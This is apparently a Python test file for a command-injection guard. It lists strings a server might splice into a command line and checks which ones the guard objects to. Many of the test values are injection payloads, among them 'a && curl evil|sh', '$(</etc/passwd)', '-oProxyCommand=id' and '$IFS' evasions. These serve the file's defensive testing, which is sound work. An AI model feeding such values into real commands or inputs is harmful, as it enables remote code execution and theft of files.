"""One table of values that a server may put into a command line: where a command begins, and what only looks like it."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from sekisho.guards.objection import CLEAN
from sekisho.guards.spliced import LONGEST, judge_spliced
from tablekit import rows

BEGINS = (
    "abc$(touch x)", "abc`id`", "a; id", "a;id;", "a|id", "a && id", "a||id", "a\nid", "$(id)", "`id`", "a$IFS$9id", "${IFS}id", "x'; id; '", 'x";id;"',
    "4173; id", "x; /tmp/evil", "x;./a", "a;'i'd ", "a;i\\d ", "a;$(x)", "a;${x}", "a; FOO=1 id", "a && curl evil|sh", "| calc.exe", "a; {id,}", "a ; sh", "a & whoami",
    'project.xcodeproj"; open -a Calculator #', "a & id &", "x|/bin/sh", "<(id)", "a; !id", "a; exec id", "\n/usr/bin/touch y", "$(</etc/passwd)", "$(\tid)", "a; (id)",
    "a; i\\\nd", "a; who${z}ami", "a; i$@d", "a|a; i${x:-d}", "a; `id`", "`/tmp/x`", "a; $SHELL -c x", "a; \\\nid", "(x|y);id x", "a | { id; }", "x" * 200 + "; id", "a | date | sh",
)  # fmt: skip
BEGINS_ELSEWHERE = (
    "a&id", "a > /etc/x", "a </etc/x", "</a >/tmp/x>", "a>~/.x", "a >> ../x", "&calc", "a%3bid ", "a\uff1bid ", "a;\u200bid ", "x &> y",
)  # fmt: skip
OPTIONS = (
    "--output=/tmp/x",
    "--upload-pack=x",
    "-oProxyCommand=id",
    '"--upload-pack',
    "-exec id",
    "--pre=sh",
    "--anything",
    "main --upload-pack=id",
    "web-1 --address=0.0.0.0",
    "-o=x",
    "web-1 --address=0.0.0.0",
    "web-1 --address 0.0.0.0",
    "main -O x",
    "-c",
)
HONEST = (
    "</answer>", "a</b> c",
    "R&D", "R&D #4.docx", "Q&A: what's", "50% off; act now & save!", "a -> prod", "@types/node >= 20", "${name} x", "Lunch @ Joe's | 12:00", "O'Reilly & Sons; Inc.",
    "key=value; other=value", "$HOME vs ~", ">=1.0.0 <2.0.0", "1.x || >=2.5.0 || 5.0.0 - 7.2.3", "requests>=2,<3", "a&b.csv", "a;b.txt", "text/html; charset=utf-8",
    "RRULE:FREQ=WEEKLY;BYDAY=MO,WE;UNTIL=2024", "<bob@example.com>", ".content > p", "-pinterest.com", "<logs-{now/d}>", "|", ";", "--", "&&", "P1 | urgent", "$TSLA",
    "10.1002/(SICI)1097-4571(199806)49:8<693::AID-ASI4>3.0.CO;2-O", "0:1;2:3", "Buy milk & eggs; call O'Brien", "-- later --", "100x100>", "-crop", "-1",
     "*.{ts,tsx}", "+(test|spec)", "(cat|dog).png", "<script> not escaped", "-site:x.com recipes", "AT&T stock & news", "$()",
    "Zahlung (5 %)", "日本語；テスト", "a b-c", "my file (1).pdf", "100%25", "x%20y", "--dry-run ignored", "main", "", "a ` b",
)  # fmt: skip


def rules(value: str) -> set[str]:
    found = judge_spliced(value)
    assert all(0 <= each.start <= each.end <= len(value) for each in found.objections)
    return {each.rule for each in found.objections}


@rows("value", (*BEGINS, *BEGINS_ELSEWHERE))
def test_a_command_begins_nowhere_in_a_name(value: str) -> None:
    assert "word-shell" in rules(value)


@rows("value", OPTIONS)
def test_a_name_begins_with_no_option_that_starts_something(value: str) -> None:
    assert "word-option" in rules(value)


@rows("value", HONEST)
def test_punctuation_that_begins_no_command_is_honest(value: str) -> None:
    assert judge_spliced(value) == CLEAN


@rows(
    ("value", "begins"),
    [("Java & Python", False), ("read & write", False), ("sort & filter", False), ("a & sort -o /etc/x", True)],
)
def test_programs_that_are_words_are_honest_behind_and(value: str, *, begins: bool) -> None:
    assert bool(judge_spliced(value).objections) is begins


def test_a_value_that_never_settles_is_objected_to() -> None:
    assert "word-shell" in rules("%" + "25" * 130 + "2e")


@given(st.text(max_size=60))
def test_any_text_is_judged(value: str) -> None:
    judge_spliced(value * (LONGEST // 30))


@rows(("value", "expected"), [("|id", True), (" | /bin/x", True), ("a|b", False), ("|", False)])
def test_a_name_is_no_program_to_read_from(value: str, *, expected: bool) -> None:
    assert bool(judge_spliced(value).objections) is expected
